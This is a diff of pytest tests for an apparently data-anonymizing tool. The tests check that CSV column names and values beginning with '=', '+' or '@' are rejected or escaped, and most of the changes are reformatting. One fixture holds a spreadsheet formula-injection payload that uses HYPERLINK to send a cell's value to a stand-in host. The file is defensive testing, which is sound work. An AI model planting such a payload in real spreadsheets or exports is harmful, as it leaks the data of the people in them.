@@ -16,7 +16,7 @@ from maskwright.errors import InputError
 from maskwright.verify import verify
 from patients import HEADER, POLICY, leftovers, patients, write_csv
 
-EVIL = "=HYPERLINK(\"http://x/?\"&A1)"
+EVIL = '=HYPERLINK("http://x/?"&A1)'
 
 
 def policy(**changes: Any) -> dict[str, Any]:
@@ -82,7 +82,11 @@ def test_labels_of_a_hierarchy(tmp_path: Path) -> None:
     (tmp_path / "ward.csv").write_text("A;=1+1;*\nB;=1+1;*\nC;@c;*\n", encoding="utf-8")
     file = tmp_path / "policy.yaml"
     labelled = policy()
-    labelled["columns"]["ward"] = {"role": "quasi-identifier", "hierarchy": {"file": "ward.csv"}, "levels": [1]}
+    labelled["columns"]["ward"] = {
+        "role": "quasi-identifier",
+        "hierarchy": {"file": "ward.csv"},
+        "levels": [1],
+    }
     file.write_text(yaml.safe_dump(labelled), encoding="utf-8")
     with pytest.raises(InputError, match="column 'ward'"):
         mw.anonymize(source, file, out)
@@ -98,10 +102,12 @@ def test_column_names(tmp_path: Path) -> None:
     source, out = write_csv(tmp_path / "patients.csv", patients(), header), tmp_path / "release"
     named = policy()
     named["columns"] |= {"=disease": named["columns"].pop("disease"), "+ward": named["columns"].pop("ward")}
-    with pytest.raises(InputError, match="name of column '=disease'.*rename"):
+    with pytest.raises(InputError, match=r"name of column '=disease'.*rename"):
         mw.anonymize(source, named, out)
     mw.anonymize(source, named | {"output": {"formulas": "escape"}}, out)
-    assert (out / "public" / "data.csv").read_text(encoding="utf-8").splitlines()[0] == "age,zip,sex,'=disease,'+ward"
+    assert (out / "public" / "data.csv").read_text(encoding="utf-8").splitlines()[
+        0
+    ] == "age,zip,sex,'=disease,'+ward"
     assert verify(out).ok
     assert not dangerous(out)
 
@@ -117,7 +123,10 @@ def test_several_tables_and_their_plans(tmp_path: Path) -> None:
 
 
 def test_names_in_plans(tmp_path: Path) -> None:
-    source, out = write_csv(tmp_path / "p.csv", patients(), [*HEADER[:4], "=disease", "@ward"]), tmp_path / "release"
+    source, out = (
+        write_csv(tmp_path / "p.csv", patients(), [*HEADER[:4], "=disease", "@ward"]),
+        tmp_path / "release",
+    )
     asked = policy(method={"name": "codip", "plan": "best"}, output={"formulas": "escape"})
     asked["columns"] = {k: v for k, v in asked["columns"].items() if k not in ("disease", "ward")}
     asked["columns"] |= {"=disease": "sensitive", "@ward": "sensitive"}
@@ -143,5 +152,7 @@ def test_negative_numbers_are_no_formulas(tmp_path: Path) -> None:
     asked = policy()
     asked["columns"]["age"]["levels"] = [2]
     mw.anonymize(source, asked, out)
-    assert "-10..-1" in (out / "public" / "data.csv").read_text(encoding="utf-8"), "our own labels are no formulas"
+    assert "-10..-1" in (out / "public" / "data.csv").read_text(encoding="utf-8"), (
+        "our own labels are no formulas"
+    )
     assert verify(out).ok
